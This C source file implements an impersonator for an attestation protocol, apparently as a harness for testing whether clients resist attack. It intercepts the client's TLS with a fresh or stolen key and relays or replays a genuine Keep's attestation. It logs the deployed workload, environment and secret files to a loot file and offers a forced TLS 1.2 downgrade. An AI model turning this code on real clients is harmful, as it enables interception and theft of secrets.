/* SPDX-License-Identifier: Apache-2.0 */
/* Speaks TLS to the client in the Keep's place, with a key of its own or the Keep's stolen one; gets the
 * statement that the client asks for from a genuine Keep (or from a recorded bundle), and then plays the rest
 * of a Keep, keeping all it is given. */
#include "middle.h"

#include <mbedtls/ssl.h>
#include <mbedtls/x509_crt.h>
#include <psa/crypto.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct tls {
    int fd;
    mbedtls_ssl_context ssl;
    mbedtls_ssl_config config;
    mbedtls_x509_crt certificate;
    mbedtls_pk_context key;
};

static int psa_rng(void *context, unsigned char *bytes, size_t size)
{
    (void)context;
    return psa_generate_random(bytes, size) == PSA_SUCCESS ? 0 : -1;
}

static int bio_send(void *context, const unsigned char *bytes, size_t size)
{
    ssize_t sent = send(((struct tls *)context)->fd, bytes, size, MSG_NOSIGNAL);
    return sent > 0 ? (int)sent : MBEDTLS_ERR_SSL_CONN_EOF;
}

static int bio_receive(void *context, unsigned char *bytes, size_t size)
{
    ssize_t got = recv(((struct tls *)context)->fd, bytes, size, 0);
    return got > 0 ? (int)got : MBEDTLS_ERR_SSL_CONN_EOF;
}

static bool tls_open(struct tls *tls, int fd, int endpoint, bool alpn)
{
    static const char *protocols[] = {SESSION_ALPN, NULL};
    static const uint16_t groups[] = {MBEDTLS_SSL_IANA_TLS_GROUP_X25519, MBEDTLS_SSL_IANA_TLS_GROUP_SECP256R1,
                                      0};
    tls->fd = fd;
    mbedtls_ssl_init(&tls->ssl);
    mbedtls_ssl_config_init(&tls->config);
    if (mbedtls_ssl_config_defaults(&tls->config, endpoint, MBEDTLS_SSL_TRANSPORT_STREAM,
                                    MBEDTLS_SSL_PRESET_DEFAULT) != 0)
        return false;
    mbedtls_ssl_conf_rng(&tls->config, psa_rng, NULL);
    mbedtls_ssl_conf_authmode(&tls->config, MBEDTLS_SSL_VERIFY_NONE);
    mbedtls_ssl_conf_groups(&tls->config, groups);
    if (alpn && mbedtls_ssl_conf_alpn_protocols(&tls->config, protocols) != 0)
        return false;
    if (endpoint == MBEDTLS_SSL_IS_SERVER &&
        mbedtls_ssl_conf_own_cert(&tls->config, &tls->certificate, &tls->key) != 0)
        return false;
    if (mbedtls_ssl_setup(&tls->ssl, &tls->config) != 0)
        return false;
    mbedtls_ssl_set_bio(&tls->ssl, tls, bio_send, bio_receive, NULL);
    return mbedtls_ssl_handshake(&tls->ssl) == 0;
}

static bool tls_write(struct tls *tls, const uint8_t *bytes, size_t size)
{
    while (size) {
        int sent = mbedtls_ssl_write(&tls->ssl, bytes, size);
        if (sent <= 0)
            return false;
        bytes += sent;
        size -= (size_t)sent;
    }
    return true;
}

static bool tls_read(struct tls *tls, uint8_t *bytes, size_t size)
{
    while (size) {
        int got = mbedtls_ssl_read(&tls->ssl, bytes, size);
        if (got == MBEDTLS_ERR_SSL_RECEIVED_NEW_SESSION_TICKET)
            continue;
        if (got <= 0)
            return false;
        bytes += got;
        size -= (size_t)got;
    }
    return true;
}

/* ---- messages ---- */

static uint8_t incoming[MESSAGE_SIZE_OWNER + MESSAGE_HEADER_SIZE],
    relayed[MESSAGE_SIZE_CLIENT + MESSAGE_HEADER_SIZE];

static bool read_message(struct tls *tls, uint8_t *buffer, size_t capacity, size_t *size)
{
    if (!tls_read(tls, buffer, MESSAGE_HEADER_SIZE))
        return false;
    *size = load_be32(buffer);
    return *size <= capacity - MESSAGE_HEADER_SIZE && tls_read(tls, buffer + MESSAGE_HEADER_SIZE, *size);
}

static bool send_message(struct tls *tls, const struct message *m)
{
    static uint8_t out[MESSAGE_SIZE_CLIENT + MESSAGE_HEADER_SIZE];
    size_t size;
    return message_encode(m, out, sizeof out, &size) == 0 && tls_write(tls, out, size);
}

struct liar {
    const struct attack *attack;
    struct tls client, keep;
    struct span statement, evidence; /* of the last answer, or of the bundle */
    uint8_t nonce[NONCE_SIZE], instance[INSTANCE_ID_SIZE];
    uint8_t workload[DIGEST_SIZE];
    uint64_t data_left;
};

/* Passes the client's attest to the genuine Keep, word for word, and the answer back. */
static bool relay_attest(struct liar *liar, const uint8_t *message, size_t size)
{
    size_t answer_size;
    struct message answer;
    if (!tls_write(&liar->keep, message, size + MESSAGE_HEADER_SIZE) ||
        !read_message(&liar->keep, relayed, sizeof relayed, &answer_size))
        return false;
    if (message_decode(MESSAGE_FROM_KEEP, span_of(relayed + MESSAGE_HEADER_SIZE, answer_size), &answer) != 0)
        return false;
    liar->statement = answer.statement;
    liar->evidence = answer.evidence;
    return tls_write(&liar->client, relayed, answer_size + MESSAGE_HEADER_SIZE);
}

static bool answer_attest(struct liar *liar, const uint8_t *message, size_t size)
{
    if (strcmp(liar->attack->mode, "replay") != 0)
        return relay_attest(liar, message, size);
    struct message answer = {
        .type = MESSAGE_STATEMENT, .statement = liar->statement, .evidence = liar->evidence};
    return send_message(&liar->client, &answer);
}

static uint64_t deploy_bytes(const struct deploy *deploy)
{
    uint64_t sum = deploy->module_size;
    struct list_cursor cursor;
    struct deploy_file file;
    if (list_open(deploy->files, &cursor) == 0)
        while (list_next_file(&cursor, &file))
            sum += file.size;
    return sum;
}

static void take_instance(struct liar *liar)
{
    struct statement said;
    if (statement_decode(liar->statement, &said) == 0)
        memcpy(liar->instance, said.instance, sizeof liar->instance);
}

static bool answer(struct liar *liar, const struct message *m)
{
    struct message reply = {0};
    switch (m->type) {
    case MESSAGE_OWNER:
        reply.type = MESSAGE_OWNER_VIEW;
        reply.state = KEEP_OWNED;
        take_instance(liar);
        (void)statement_owner_digest(liar->instance, span_of(liar->nonce, sizeof liar->nonce), m->spki,
                                     reply.owner);
        return send_message(&liar->client, &reply);
    case MESSAGE_DEPLOY:
        (void)deploy_workload_digest(&m->deploy, liar->workload);
        liar->data_left = deploy_bytes(&m->deploy);
        reply.type = MESSAGE_CONTINUE;
        return send_message(&liar->client, &reply);
    case MESSAGE_DATA:
        append_file(liar->attack->loot, m->bytes.data, m->bytes.size);
        liar->data_left -= m->bytes.size < liar->data_left ? m->bytes.size : liar->data_left;
        if (liar->data_left)
            return true;
        reply.type = MESSAGE_WORKLOAD;
        memcpy(reply.workload, liar->workload, sizeof reply.workload);
        return send_message(&liar->client, &reply);
    case MESSAGE_SECRETS:
        append_file(liar->attack->loot, m->env.data, m->env.size);
        append_file(liar->attack->loot, m->files.data, m->files.size);
        reply.type = MESSAGE_OK;
        return send_message(&liar->client, &reply);
    case MESSAGE_START:
        reply.type = MESSAGE_RUNNING;
        memcpy(reply.run, m->run, sizeof reply.run);
        return send_message(&liar->client, &reply);
    default:
        return false;
    }
}

static void play_keep(struct liar *liar)
{
    size_t size;
    while (read_message(&liar->client, incoming, sizeof incoming, &size)) {
        struct message m;
        if (message_decode(MESSAGE_FROM_CLIENT, span_of(incoming + MESSAGE_HEADER_SIZE, size), &m) != 0)
            return;
        if (m.type == MESSAGE_ATTEST || m.type == MESSAGE_ATTEST_WORKLOAD)
            memcpy(liar->nonce, m.nonce, sizeof liar->nonce);
        bool more = m.type == MESSAGE_ATTEST || m.type == MESSAGE_ATTEST_WORKLOAD
                        ? answer_attest(liar, incoming, size)
                        : answer(liar, &m);
        if (!more)
            return;
    }
}

/* ---- keys ---- */

static bool load_key(struct tls *tls, const uint8_t private_key[P256_PRIVATE_SIZE])
{
    uint8_t der[256];
    uint8_t point[P256_POINT_SIZE];
    /* RFC 5915 ECPrivateKey: version 1, octets, [0] prime256v1, [1] public key */
    static const uint8_t head[] = {0x30, 0x77, 0x02, 0x01, 0x01, 0x04, 0x20};
    static const uint8_t middle[] = {0xa0, 0x0a, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d,
                                     0x03, 0x01, 0x07, 0xa1, 0x44, 0x03, 0x42, 0x00};
    if (crypto_p256_public(private_key, point) != 0)
        return false;
    uint8_t *at = der;
    memcpy(at, head, sizeof head);
    memcpy(at += sizeof head, private_key, P256_PRIVATE_SIZE);
    memcpy(at += P256_PRIVATE_SIZE, middle, sizeof middle);
    memcpy(at += sizeof middle, point, sizeof point);
    at += sizeof point;
    mbedtls_pk_init(&tls->key);
    return mbedtls_pk_parse_key(&tls->key, der, (size_t)(at - der), NULL, 0, psa_rng, NULL) == 0;
}

static bool self_sign(struct tls *tls)
{
    uint8_t der[1024], serial[] = {1};
    mbedtls_x509write_cert writer;
    mbedtls_x509write_crt_init(&writer);
    mbedtls_x509write_crt_set_version(&writer, MBEDTLS_X509_CRT_VERSION_3);
    mbedtls_x509write_crt_set_md_alg(&writer, MBEDTLS_MD_SHA256);
    mbedtls_x509write_crt_set_subject_key(&writer, &tls->key);
    mbedtls_x509write_crt_set_issuer_key(&writer, &tls->key);
    int size = mbedtls_x509write_crt_set_serial_raw(&writer, serial, sizeof serial) ||
                       mbedtls_x509write_crt_set_subject_name(&writer, "CN=keep") ||
                       mbedtls_x509write_crt_set_issuer_name(&writer, "CN=keep") ||
                       mbedtls_x509write_crt_set_validity(&writer, "20200101000000", "20991231235959")
                   ? -1
                   : mbedtls_x509write_crt_der(&writer, der, sizeof der, psa_rng, NULL);
    mbedtls_x509write_crt_free(&writer);
    mbedtls_x509_crt_init(&tls->certificate);
    return size > 0 &&
           mbedtls_x509_crt_parse_der(&tls->certificate, der + sizeof der - size, (size_t)size) == 0;
}

static bool keep_digest(struct tls *keep, char hex[2 * DIGEST_SIZE + 1])
{
    uint8_t digest[DIGEST_SIZE];
    const mbedtls_x509_crt *certificate = mbedtls_ssl_get_peer_cert(&keep->ssl);
    if (!certificate)
        return false;
    struct span spki = span_of(certificate->pk_raw.p, certificate->pk_raw.len);
    if (crypto_sha256(&spki, 1, digest) != 0)
        return false;
    for (size_t i = 0; i < sizeof digest; i++)
        (void)snprintf(hex + 2 * i, 3, "%02x", digest[i]);
    return true;
}

/* The key that the attack uses: a fresh one; or what a command prints, which gets the digest of the Keep's
 * SPKI as an argument. */
static bool attack_key(struct liar *liar, uint8_t private_key[P256_PRIVATE_SIZE])
{
    uint8_t point[P256_POINT_SIZE];
    char digest[2 * DIGEST_SIZE + 1], command[4096];
    if (strcmp(liar->attack->mode, "mitm") != 0 || liar->attack->argument[0] == 0)
        return crypto_p256_generate(private_key, point) == 0;
    if (!keep_digest(&liar->keep, digest))
        return false;
    (void)snprintf(command, sizeof command, "%s %s", liar->attack->argument, digest);
    FILE *thief = popen(command, "r");
    if (!thief)
        return false;
    bool whole = true;
    for (size_t i = 0; whole && i < P256_PRIVATE_SIZE; i++) {
        unsigned byte;
        whole = fscanf(thief, "%2x", &byte) == 1;
        private_key[i] = (uint8_t)byte;
    }
    (void)pclose(thief);
    return whole;
}

static bool load_bundle(struct liar *liar)
{
    static uint8_t bytes[1 << 20];
    static struct bundle bundle;
    FILE *file = fopen(liar->attack->argument, "rb");
    if (!file)
        return false;
    size_t size = fread(bytes, 1, sizeof bytes, file);
    (void)fclose(file);
    if (bundle_decode(span_of(bytes, size), &bundle) != 0 || bundle.count == 0)
        return false;
    liar->statement = bundle.part[0].statement;
    liar->evidence = bundle.part[0].evidence;
    return true;
}

void impersonate(const struct attack *attack, struct connection *c)
{
    static struct liar liar;
    uint8_t private_key[P256_PRIVATE_SIZE];
    liar.attack = attack;
    if (psa_crypto_init() != PSA_SUCCESS || !tls_open(&liar.keep, c->target, MBEDTLS_SSL_IS_CLIENT, true))
        return;
    if (!attack_key(&liar, private_key) || !load_key(&liar.client, private_key) || !self_sign(&liar.client))
        return;
    if (strcmp(attack->mode, "replay") == 0 && !load_bundle(&liar))
        return;
    if (tls_open(&liar.client, c->client, MBEDTLS_SSL_IS_SERVER, strcmp(attack->mode, "noalpn") != 0))
        play_keep(&liar);
}

/* A TLS 1.2 ServerHello (RFC 5246, 7.4.1.3), whatever the client asked for. */
void answer_tls12(struct connection *c)
{
    uint8_t hello[HEAD_MAX];
    if (recv(c->client, hello, sizeof hello, 0) <= 0)
        return;
    uint8_t record[5 + 4 + 38] = {0x16, 0x03, 0x03, 0x00, 42, 0x02, 0x00, 0x00, 38, 0x03, 0x03};
    memset(record + 11, 0x42, 32);
    record[43] = 0;    /* no session id */
    record[44] = 0xc0; /* TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256 */
    record[45] = 0x2b;
    record[46] = 0;
    (void)write_all(c->client, record, sizeof record);
    (void)recv(c->client, hello, sizeof hello, 0);
}
